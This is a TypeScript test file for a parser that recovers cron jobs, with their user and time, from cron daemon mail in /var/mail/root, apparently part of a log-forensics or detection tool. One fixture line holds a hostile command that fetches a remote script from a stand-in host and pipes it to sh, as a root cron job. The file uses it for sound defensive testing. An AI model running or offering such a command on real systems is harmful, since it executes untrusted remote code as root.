import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { draftsOf } from '../../../test/logs.ts'
import { cronMail } from './cron-mail.ts'

const told = (...lines: string[]) =>
  draftsOf(cronMail, '/var/mail/root', ...lines).map(d =>
    [d.verb, d.user, d.command, d.time && new Date(d.time.ms).toISOString()].join(' | '),
  )
const from = 'From root@web  Fri Jan  2 03:04:05 2026'

test('a job by the mail it sent', () => {
  assert.deepEqual(told(from, 'From: root@web (Cron Daemon)', 'Subject: Cron <root@web> curl -s http://192.0.2.9/x | sh', '', 'output'), [
    'scheduled | root | curl -s http://192.0.2.9/x | sh | 2026-01-02T03:04:05.000Z',
  ])
})

test('near misses: a subject in the body, and a mail of somebody else', () => {
  assert.deepEqual(told(from, 'Subject: hello', '', 'Subject: Cron <root@web> /tmp/x'), [])
  assert.deepEqual(told('From me to you', 'Subject: Cron <root@web> /tmp/x'), [])
})

test('property: any text, no throw', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.string(), fc.constantFrom(from, 'Subject: Cron <a@b> c'))),
      lines => void draftsOf({ ...cronMail, needles: [] }, '/a', ...lines),
    ),
  )
})
